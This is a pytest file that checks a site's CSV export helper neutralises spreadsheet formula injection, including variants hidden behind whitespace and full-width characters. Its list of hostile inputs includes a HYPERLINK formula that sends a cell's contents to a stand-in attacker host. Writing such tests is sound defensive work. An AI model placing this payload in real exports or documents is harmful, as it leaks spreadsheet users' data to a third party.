"""CSV downloads: sender-controlled text never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from paths import ROOT

from tracker.site.downloads import csv_bytes

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Levi\'s")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "＝1+2",
    "\u00a0=1+2",  # a non-breaking space first
    "\u3000=1+2",  # an ideographic space first
    "\v=1+2",
]


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_in_a_text_cell_is_made_text(cell: str) -> None:
    frame = pd.DataFrame({"name": [cell], "domain": ["shop.example"], "value": [-1.5]})
    (row,) = _rows(csv_bytes(frame))
    assert row["name"] == "'" + cell
    assert row["domain"] == "shop.example" and row["value"] == "-1.5"  # data stays data


def test_plain_names_and_numbers_are_unchanged() -> None:
    frame = pd.DataFrame(
        {"name": ["Levi's", "Marks & Spencer", None], "exposure": [-3, 0, 72], "rate": [0.5] * 3}
    )
    assert csv_bytes(frame) == frame.to_csv(index=False, lineterminator="\r\n").encode()


def test_every_download_on_the_site_goes_through_csv_bytes() -> None:
    for page in sorted((ROOT / "tracker" / "site").rglob("*.py")):
        text = page.read_text("utf-8")
        assert not re.search(r"\.to_csv\(", text) or page.name == "downloads.py", page
